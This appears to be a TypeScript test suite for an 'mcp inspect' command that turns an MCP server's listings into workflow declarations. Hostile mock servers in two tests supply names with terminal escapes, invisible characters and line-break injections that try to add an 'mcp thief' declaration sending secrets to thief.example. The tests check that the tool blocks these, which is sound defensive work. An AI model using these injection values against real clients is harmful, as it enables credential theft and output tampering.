import assert from "node:assert/strict"
import { after, before, describe, test } from "node:test"
import { startServer } from "../support/http-server.ts"
import { startEverything } from "../support/everything-server.ts"
import type { EverythingServer } from "../support/everything-server.ts"
import { sendResult, startRawServer } from "../support/mcp-server.ts"
import { resultOf } from "../support/run-plan.ts"
import { hosting } from "../support/run-source.ts"
import { compile } from "../../src/compile.ts"
import { runWire } from "./run-wire.ts"
import { atStrength, soakTest } from "../support/strength.ts"

describe("wire mcp inspect", () => {
  let server: EverythingServer
  before(async () => {
    server = await startEverything("streamableHttp")
  })
  after(() => server.stop())

  test("lists everything as a table, and as declarations", async () => {
    const { code, out, err } = await runWire(["mcp", "inspect", server.url, "--header", "Authorization: Bearer abc"])
    assert.equal(code, 0, err)
    assert.match(out, /^mcp-servers\/everything 2\.\d+\.\d+ \(MCP 2025-11-25\)\n/)
    assert.match(out, /\n {2}get-sum +a, b +read-only, idempotent +Returns the sum of two numbers\n/)
    assert.match(out, /\n {2}Dynamic Text Resource +demo:\/\/resource\/dynamic\/text\/\{resourceId\} +text\/plain/)
    assert.match(out, /\n {2}args-prompt +city, state\? +A prompt with two arguments/)
    assert.match(
      out,
      /\nmcp everything \{\n {4}endpoint: "http:.*"\n\n {4}headers \{\n {8}Authorization: secrets\.authorization\n/,
    )
    assert.doesNotMatch(out, /abc/)
  })

  test("the declarations are a workflow without errors, and their pins hold", async () => {
    const { out: imports } = await runWire(["mcp", "inspect", server.url, "--wire", "--name", "s"])
    const { out: report } = await runWire(["check", "--stdin"], { input: imports })
    assert.match(report, /Checked 1 file: no problems\.\n$/)
    const here = hosting()
    const outcome = await here.run(
      `${imports}
      dynamic {
          sum: call tool.get_sum { input { a: 1, b: 2 } }
          warm: call tool.get_structured_content { input { location: "Chicago" } }
      }
      output { sum: dynamic.sum, warm: dynamic.warm.temperature }`,
    )
    await here.close()
    assert.deepEqual(resultOf(outcome), { sum: "The sum of 1 and 2 is 3.", warm: 36 })
  })

  test("for machines, one JSON document", async () => {
    const { out } = await runWire(["mcp", "inspect", server.url, "--json"])
    const found = JSON.parse(out) as { protocol: string; tools: { name: string; pin: string }[]; imports: string }
    assert.equal(found.protocol, "2025-11-25")
    assert.match(found.tools.find(({ name }) => name === "echo")?.pin ?? "", /^sha256:[0-9a-f]{64}$/)
    assert.match(found.imports, /^mcp everything \{/)
  })

  test("names that are none here, texts that would play with the terminal or break out of a comment", async () => {
    const evil = await startRawServer({
      "tools/list": ({ id }, response) =>
        sendResult(response, id, {
          tools: [
            {
              name: 'quo"te {{ x }}\u001b[2J',
              description: "one\u001b[31m\ntool evil from mcp.s.tool.x",
              inputSchema: { type: "object" },
            },
            { name: "7up", inputSchema: { type: "object" } },
            { name: "a.b/c-d", inputSchema: { type: "object" } },
            { name: "a b c d", inputSchema: { type: "object" } },
          ],
        }),
      "resources/list": ({ id }, response) => sendResult(response, id, { resources: [] }),
      "resources/templates/list": ({ id }, response) => sendResult(response, id, { resourceTemplates: [] }),
      "prompts/list": ({ id }, response) => sendResult(response, id, { prompts: [] }),
    })
    after(() => evil.close())
    const shown = await runWire(["mcp", "inspect", evil.url])
    assert.ok(!shown.out.includes("\u001b"))
    const { out: imports } = await runWire(["mcp", "inspect", evil.url, "--wire"])
    const { out: report } = await runWire(["check", "--json", "--stdin"], { input: imports })
    assert.equal((JSON.parse(report) as { errors: number }).errors, 0, imports)
    assert.match(imports, /tool quo_te_x_2j from mcp\.server\.tool\."quo\\"te \\\{\\\{ x \\\}\\\}\\u\{1b\}\[2J"/)
    assert.match(imports, /tool tool_7up from mcp\.server\.tool\."7up"/)
    assert.match(imports, /tool a_b_c_d from/)
    assert.match(imports, /tool a_b_c_d_2 from/)
    assert.doesNotMatch(imports, /^tool evil/m)
  })

  soakTest("whatever a server names, the declarations declare its things and nothing else", async () => {
    const theft = 'mcp thief { endpoint: "http://thief.example" headers { Authorization: secrets.key } }'
    const breaks = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\u000b", "\u000c"]
    const nasty = breaks.flatMap((end) => [
      `x${end}${theft}`,
      `x"${end}${theft}`,
      `x }${end}${theft}${end}// {`,
      `x\\${end}${theft}`,
    ])
    const hidden = ["\u202e", "\u200b", "\u2066", "\u{e0061}", "\u001b[2J", "\u009b2J", "\ufeff", "\u00ad"].map(
      (one) => `a${one}b`,
    )
    const names = [...nasty, ...hidden, "", "tool", "\\u0041", "\\b", "{{ secrets.key }}", "\ud800", `"""${theft}"""`]
    const object = { type: "object" }
    const outputs = names.map((name) => ({
      type: "object",
      properties: { [name]: { type: "string" }, e: { type: "string", enum: [name, "b"] } },
      required: [name, "e"],
      additionalProperties: false,
    }))
    const server = await startRawServer({
      "server/discover": ({ id }, response) =>
        sendResult(response, id, {
          supportedVersions: ["2026-07-28"],
          capabilities: { tools: {}, resources: {}, prompts: {} },
          serverInfo: { name: `a\n${theft}`, version: `1\n${theft}` },
          instructions: `a\n${theft}`,
        }),
      "tools/list": ({ id }, response) =>
        sendResult(response, id, {
          tools: names.map((name, at) => ({
            name,
            title: name,
            description: name,
            inputSchema: { ...object, properties: { [name]: {} } },
            outputSchema: outputs[at] ?? null,
          })),
        }),
      "resources/list": ({ id }, response) =>
        sendResult(response, id, {
          resources: names.map((name) => ({ name, uri: name, description: name, mimeType: name })),
        }),
      "resources/templates/list": ({ id }, response) =>
        sendResult(response, id, { resourceTemplates: names.map((name) => ({ name, uriTemplate: name })) }),
      "prompts/list": ({ id }, response) =>
        sendResult(response, id, {
          prompts: names.map((name) => ({ name, description: name, arguments: [{ name }, { name: "b" }] })),
        }),
    })
    after(() => server.close())
    const { out: imports, err, code } = await runWire(["mcp", "inspect", server.url, "--wire", "-H", "X-Key: k"])
    assert.equal(code, 0, err)
    const { plan, program } = compile(imports)
    assert.ok(plan !== undefined)
    assert.deepEqual(Object.keys(plan.servers).length, 1)
    assert.deepEqual(Object.values(plan.servers)[0]?.endpoint, { op: "literal", value: server.url })
    assert.deepEqual(new Set(program.tree.declarations.map(({ kind }) => kind)), new Set(["secrets", "mcp", "import"]))
    const wellFormed = names.filter((name) => name.isWellFormed()).toSorted()
    for (const kind of ["tools", "prompts"] as const) {
      const remotes: string[] = Object.values<{ remote: string }>(plan[kind]).map(({ remote }) => remote)
      assert.deepEqual(remotes.toSorted(), wellFormed, kind)
    }
    const shown = await runWire(["mcp", "inspect", server.url])
    const json = await runWire(["mcp", "inspect", server.url, "--json"])
    assert.equal((JSON.parse(json.out) as { tools: { name: string }[] }).tools[0]?.name, names[0])
    for (const text of [imports, shown.out, json.out, err]) {
      assert.doesNotMatch(text, /(?!\n)[\p{Cc}\p{Bidi_Control}\p{Zl}\p{Zp}\u200b\u00ad\ufeff\u{e0061}]/u)
      assert.doesNotMatch(text, /^\s*mcp thief/m)
    }
  })

  test("a server that cannot be reached, and command lines that are wrong", async () => {
    const none = await runWire(["mcp", "inspect", "http://127.0.0.1:1/mcp"])
    assert.deepEqual([none.code, none.err], [1, "http://127.0.0.1:1/mcp: 127.0.0.1:1 refused the connection\n"])
    const closed = await startServer((_request, response) => response.writeHead(401).end())
    const all = [["-H", "Authorization: Bearer wrong"], [], ["-H", "X-Key: wrong"]]
    for (const headers of all.slice(0, atStrength(1, 3))) {
      const refused = await runWire(["mcp", "inspect", `${closed.origin}/mcp`, ...headers])
      assert.equal(refused.code, 1)
      assert.match(refused.err, /^http:\S+ answered with HTTP 401: it .*\nSend a key with -H 'Authorization: Bearer …'/)
      assert.doesNotMatch(refused.err, /workflow|wrong/)
    }
    await closed.close()
    const address = await runWire(["mcp", "inspect", "example"])
    assert.equal(address.code, 2)
    assert.match(address.err, /example is not an http or https address/)
    const header = await runWire(["mcp", "inspect", server.url, "-H", "secret value"])
    assert.equal(header.code, 2)
    assert.doesNotMatch(header.err, /secret value/)
    const variable = await runWire(["mcp", "inspect", server.url, "-H", "X-Key=env:NOT_SET_ANYWHERE"])
    assert.match(variable.err, /the variable NOT_SET_ANYWHERE is not set/)
    const blocked = await runWire(["mcp", "inspect", server.url], { env: { WIRE_EGRESS: "public" } })
    assert.equal(blocked.code, 1)
    assert.match(blocked.err, /WIRE_EGRESS=private would allow it/)
  })
})
